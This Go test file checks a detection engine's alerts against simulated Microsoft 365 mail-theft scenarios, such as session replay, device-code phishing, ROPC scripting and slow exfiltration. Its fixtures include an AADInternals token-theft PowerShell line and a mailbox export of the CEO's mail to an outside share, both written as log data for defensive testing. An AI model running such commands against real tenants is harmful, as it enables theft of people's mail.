package analytics

import (
	"cmp"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"redshank/analytics/alert"
	"redshank/analytics/event"
)

const (
	alice   = "alice@contoso.com"
	homeIP  = "192.0.2.20"
	thief   = "203.0.113.77"
	browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
	python  = "python-requests/2.31.0"
	outlook = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)"
	phone   = "Outlook-iOS/2.0"

	officeID = "d3590ed6-52b3-4102-aeff-aad2292ab01c"
	mobileID = "27922004-5251-4030-b22d-91ecd9a37ea4"
	rogueID  = "5e1f0000-0000-4000-8000-000000000666"
	backupID = "5e1f0000-0000-4000-8000-000000000bac"
)

// signsIn is a successful cloud sign-in.
func (s *scene) signsIn(a act) *scene {
	a.outcome, a.source, a.service = event.Success, event.Entra, event.M365
	return s.add(a)
}

// reads is access to mail as in the audit log.
func (s *scene) reads(a act) *scene {
	a.outcome, a.action = event.Success, event.MailAccess
	if a.source == event.SourceUnknown {
		a.source, a.service = event.UAL, event.M365
	}
	if a.access == event.AccessNone {
		a.access = event.Bind
	}
	if a.operation == "" {
		a.operation = "MailItemsAccessed"
	}
	return s.add(a)
}

// does is a change as in the audit log.
func (s *scene) does(action event.Action, operation string, a act) *scene {
	a.outcome, a.action, a.operation = event.Success, action, operation
	if a.source == event.SourceUnknown {
		a.source, a.service = event.UAL, event.M365
	}
	return s.add(a)
}

// lives adds ordinary activity of an account on the given number of days before
// midnight: five sign-ins a day at the office and some mail. The baseline is
// mature after four days.
func (s *scene) lives(user string, days int) *scene {
	for d := -days; d < 0; d++ {
		for _, h := range []int{8, 10, 12, 14, 16} {
			at := time.Duration(d)*24*time.Hour + time.Duration(h)*time.Hour
			s.signsIn(act{at: at, ip: homeIP, user: user, agent: browser, app: officeID, country: "NL", device: "laptop-1", past: true})
			s.reads(act{at: at + 5*time.Minute, ip: homeIP, user: user, agent: outlook, app: officeID, items: 10, past: true})
		}
	}
	return s
}

// summary sums an incident up, as far as no order may change it.
func summary(a *alert.Alert) string {
	codes := make([]string, 0, len(a.Signals))
	for _, s := range a.Signals {
		codes = append(codes, s.Code)
	}
	slices.Sort(codes)
	return fmt.Sprintf("%s %s %s %s %s from %s, %d mailboxes, %d items", a.Rule.ID, a.Subject, a.Class, a.Severity,
		strings.Join(slices.Compact(codes), " "), a.Source, a.Counts.Mailboxes, a.Counts.Items)
}

func summaries(all map[string]*alert.Alert) string {
	var list []string
	for _, a := range all {
		list = append(list, summary(a))
	}
	slices.Sort(list)
	return strings.Join(list, "\n")
}

// orders plays a scene as written, with the halves of the attack exchanged,
// backwards, up to twelve hours late, and doubled. All orders must raise the
// same alerts, which orders returns.
func orders(t *testing.T, build func(s *scene)) map[string]*alert.Alert {
	t.Helper()
	fresh := func() *scene {
		s := newScene(t)
		build(s)
		return s.sorted()
	}
	base := fresh().play()
	want := summaries(base)
	try := func(name string, change func(s *scene)) {
		s := fresh()
		change(s)
		if got := summaries(s.play()); got != want {
			t.Errorf("%s:\n%s\nwant\n%s", name, got, want)
		}
	}
	attack := func(s *scene) []act {
		first := slices.IndexFunc(s.acts, func(a act) bool { return !a.past })
		return s.acts[first:]
	}
	whole := attack(fresh())
	if length := whole[len(whole)-1].at - whole[0].at; length < 24*time.Hour { // else it would be later than the lateness allows
		exchanged(try, attack)
	}
	try("doubled", func(s *scene) { s.doubled() })
	for seed := range uint64(5) {
		try(fmt.Sprintf("late, order %d", seed), func(s *scene) { s.late(12*time.Hour, seed) })
	}
	return base
}

func exchanged(try func(string, func(*scene)), attack func(*scene) []act) {
	try("halves exchanged", func(s *scene) {
		acts := attack(s)
		half := len(acts) / 2
		copy(acts, append(slices.Clone(acts[half:]), acts[:half]...))
	})
	try("backwards", func(s *scene) { slices.Reverse(attack(s)) })
}

// only is the one incident of AN0131, with the signals that it must have.
func only(t *testing.T, all map[string]*alert.Alert, class string, severity alert.Severity, codes ...string) *alert.Alert {
	t.Helper()
	got := byRule(all, "AN0131")
	if len(got) != 1 {
		t.Fatalf("%d incidents, want 1:\n%s", len(got), summaries(all))
	}
	a := got[0]
	check(t, a, class, severity)
	for _, code := range codes {
		if !slices.ContainsFunc(a.Signals, func(s alert.Signal) bool { return s.Code == code }) {
			t.Errorf("no signal %s in %s", code, summary(a))
		}
	}
	return a
}

// attacks are the ones of the issue, by themselves. Each is played on an
// account that nothing is known of and on one with a week's life.
var attacks = []struct {
	name     string
	play     func(s *scene)
	class    string
	severity alert.Severity
	signals  []string       // whatever is known of the account
	ripe     []string       // more with a ripe baseline
	needs    bool           // a ripe baseline
	unripe   alert.Severity // where it differs
}{
	{
		name: "session id replayed from another network, then Graph reads with python-requests",
		play: func(s *scene) {
			s.signsIn(act{at: 9 * time.Hour, ip: homeIP, user: alice, agent: browser, app: officeID, country: "NL", session: "sess-1", device: "laptop-1"})
			s.signsIn(act{at: 9*time.Hour + 20*time.Minute, ip: thief, user: alice, agent: browser, app: officeID, country: "BR", session: "sess-1"})
			for n := range 30 {
				s.reads(act{at: 9*time.Hour + 25*time.Minute + time.Duration(n*n)*time.Second, ip: thief, user: alice, agent: python, app: officeID,
					session: "sess-1", source: event.Graph, service: event.GraphService, operation: "GET /me/messages", items: 10})
			}
		},
		class: "session_replay", severity: alert.High,
		signals: []string{"session.two_networks", "access.scripting_agent"},
		ripe:    []string{"signin.new_network", "signin.new_country"},
	},
	{
		name: "ROPC sign-in with a scripting agent, then EWS FindItem and GetItem runs",
		play: func(s *scene) {
			s.signsIn(act{at: 9 * time.Hour, ip: thief, user: alice, agent: python, app: officeID, protocol: event.ROPC})
			for n := range 60 {
				op := "GetItem"
				if n%20 == 0 {
					op = "FindItem"
				}
				s.reads(act{at: 9*time.Hour + time.Minute + time.Duration(n)*1500*time.Millisecond, ip: thief, user: alice, agent: python,
					source: event.IIS, service: event.EWSService, operation: op})
			}
		},
		class: "scripted_mail_access", severity: alert.High,
		signals: []string{"signin.ropc", "signin.scripting_agent", "access.scripting_agent", "access.regular"},
		ripe:    []string{"signin.new_network", "signin.new_agent_family"},
	},
	{
		name: "device-code phish, then a new app id and MailItemsAccessed sync",
		play: func(s *scene) {
			s.signsIn(act{at: 9 * time.Hour, ip: thief, user: alice, agent: browser, app: rogueID, protocol: event.DeviceCode})
			for n := range 4 {
				s.reads(act{at: 9*time.Hour + time.Duration(10+n)*time.Minute, ip: thief, user: alice, app: rogueID, client: "Client=REST;;", access: event.Sync, items: 1})
			}
		},
		class: "scripted_mail_access", severity: alert.High,
		signals: []string{"signin.device_code", "access.foreign_app", "access.sync"},
		ripe:    []string{"signin.new_app", "access.new_app", "signin.new_network"},
	},
	{
		name: "consent to an app with Mail.Read, then five mailboxes in ten minutes",
		play: func(s *scene) {
			s.does(event.Consent, "Consent to application.", act{at: 9 * time.Hour, ip: homeIP, user: alice, target: rogueID, detail: "ConsentAction.Permissions=Scope: Mail.Read offline_access"})
			for n := range 5 {
				s.reads(act{at: 9*time.Hour + time.Duration(20+n)*time.Minute, ip: thief, user: person(n), app: rogueID, client: "Client=REST;;", items: 3})
			}
			s.reads(act{at: 9*time.Hour + 26*time.Minute, ip: thief, user: alice, app: rogueID, client: "Client=REST;;", items: 3})
		},
		class: "application_mail_access", severity: alert.Low, // as a product that was bought
		signals: []string{"consent.mail", "access.many_mailboxes"},
	},
	{
		name: "AADInternals in a script block on a server, and look-ups of outlook.office365.com",
		play: func(s *scene) {
			s.add(act{at: 9 * time.Hour, action: event.Script, source: event.WinEvent, service: event.PowerShell, outcome: event.Success, host: "srv01.contoso.com",
				detail: "Import-Module C:\\t\\m.psd1; $t = Get-AADIntAccessTokenForEXO -Credentials $c; Open-AADIntOWA -AccessToken $t"})
			for n := range 3 {
				s.add(act{at: 9*time.Hour + time.Duration(n)*time.Minute, action: event.Network, source: event.WinEvent, service: event.Windows, outcome: event.Success,
					host: "srv01.contoso.com", client: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, target: "outlook.office365.com"})
			}
		},
		class: "collection_tool", severity: alert.High,
		signals: []string{"script.tool", "network.mail_host"},
	},
	{
		name: "on-premises EWS run with no user agent, item by item",
		play: func(s *scene) {
			s.reads(act{at: 2 * time.Hour, ip: thief, user: alice, source: event.IIS, service: event.EWSService, operation: "FindItem"})
			for n := range 400 {
				s.reads(act{at: 2*time.Hour + time.Duration(n+1)*2*time.Second, ip: thief, user: alice, source: event.IIS, service: event.EWSService, operation: "GetItem"})
			}
		},
		class: "scripted_mail_access", severity: alert.High,
		signals: []string{"access.no_agent", "access.regular", "access.item_by_item"},
		ripe:    []string{"signin.new_network", "signin.new_hour"},
		unripe:  alert.Medium, // the access half alone
	},
	{
		name: "slow exfiltration, 30 messages an hour for two days, with a stolen token",
		play: func(s *scene) {
			s.signsIn(act{at: 30 * time.Minute, ip: thief, user: alice, agent: browser, app: officeID, country: "BR", session: "sess-2"})
			for n := range 48 * 30 {
				s.reads(act{at: 35*time.Minute + time.Duration(n)*2*time.Minute, ip: thief, user: alice, agent: browser, app: officeID, session: "sess-2",
					source: event.Graph, service: event.GraphService, operation: "GET /me/messages/{id}", items: 1})
			}
		},
		class: "scripted_mail_access", severity: alert.High,
		signals: []string{"access.volume"},
		ripe:    []string{"signin.new_network", "signin.new_country"},
		needs:   true,
	},
	{
		name: "slow exfiltration by script, 30 messages an hour for two days",
		play: func(s *scene) {
			s.signsIn(act{at: 30 * time.Minute, ip: thief, user: alice, agent: python, app: officeID, protocol: event.ROPC})
			for n := range 48 * 30 {
				s.reads(act{at: 35*time.Minute + time.Duration(n)*2*time.Minute, ip: thief, user: alice, agent: python, app: officeID,
					source: event.Graph, service: event.GraphService, operation: "GET /me/messages/{id}", items: 1})
			}
		},
		class: "scripted_mail_access", severity: alert.High,
		signals: []string{"signin.ropc", "signin.scripting_agent", "access.scripting_agent", "access.regular"},
		ripe:    []string{"access.volume"},
	},
	{
		name: "access first in the log, its sign-in two hours late",
		play: func(s *scene) {
			for n := range 10 {
				s.reads(act{at: 9*time.Hour + time.Duration(n)*time.Minute, ip: thief, user: "0b1ec700-0000-4000-8000-000000000001", userID: "0b1ec700-0000-4000-8000-000000000001", token: "tok-9", agent: python,
					app: officeID, source: event.Graph, service: event.GraphService, operation: "GET /me/messages", items: 10})
			}
			for n := range 20 { // two hours of other people
				s.signsIn(act{at: 9*time.Hour + time.Duration(n*6)*time.Minute, ip: homeIP, user: person(n), agent: browser, app: officeID})
			}
			s.signsIn(act{at: 8*time.Hour + 55*time.Minute, ip: thief, user: alice, userID: "0b1ec700-0000-4000-8000-000000000001", token: "tok-9",
				agent: python, app: officeID, protocol: event.ROPC})
		},
		class: "scripted_mail_access", severity: alert.High,
		signals: []string{"signin.ropc", "access.scripting_agent"},
	},
}

func TestAttacks(t *testing.T) {
	for _, tc := range attacks {
		t.Run(tc.name, func(t *testing.T) {
			t.Run("ripe", func(t *testing.T) {
				all := orders(t, func(s *scene) {
					s.lives(alice, 7)
					tc.play(s)
				})
				a := only(t, all, tc.class, tc.severity, append(slices.Clone(tc.signals), tc.ripe...)...)
				t.Log(a.Message)
			})
			t.Run("unripe", func(t *testing.T) {
				all := orders(t, tc.play)
				if tc.needs {
					if len(all) != 0 {
						t.Logf("told all the same: %s", summaries(all))
					}
					return
				}
				a := only(t, all, tc.class, cmp.Or(tc.unripe, tc.severity), tc.signals...)
				if a.User != nil && !strings.HasPrefix(a.Baseline, "learning") {
					t.Errorf("baseline %q", a.Baseline)
				}
			})
		})
	}
}

// TestExportAfterAStuffedSignIn plays an export after a sign-in that AN1269
// detects. The order of the records determines which incident opens first, but
// not the final alerts.
func TestExportAfterAStuffedSignIn(t *testing.T) {
	all := orders(t, func(s *scene) {
		s.lives(alice, 7)
		for n := range 8 {
			s.add(act{at: 9*time.Hour + time.Duration(n)*20*time.Second, ip: thief, user: person(n), service: event.PowerShell, outcome: event.Failure, reason: event.WrongPassword})
		}
		s.add(act{at: 9*time.Hour + 4*time.Minute, ip: thief, user: alice, agent: "Microsoft WinRM Client", service: event.PowerShell, outcome: event.Success})
		s.add(act{at: 9*time.Hour + 12*time.Minute, user: alice, source: event.WinEvent, service: event.PowerShell, action: event.MailboxChange, outcome: event.Success,
			operation: "New-MailboxExportRequest", mailbox: "ceo@contoso.com", detail: `-Mailbox "ceo@contoso.com" -FilePath "\\198.51.100.9\x\c.pst"`, host: "ex01"})
	})
	a := only(t, all, "mailbox_export", alert.Critical, "signin.from_attack", "mail.export", "signin.new_network")
	t.Log(a.Message)
	if got := byRule(all, "AN1269"); len(got) != 1 || len(got[0].Valid) != 1 {
		t.Errorf("AN1269: %s", summaries(all))
	}
}
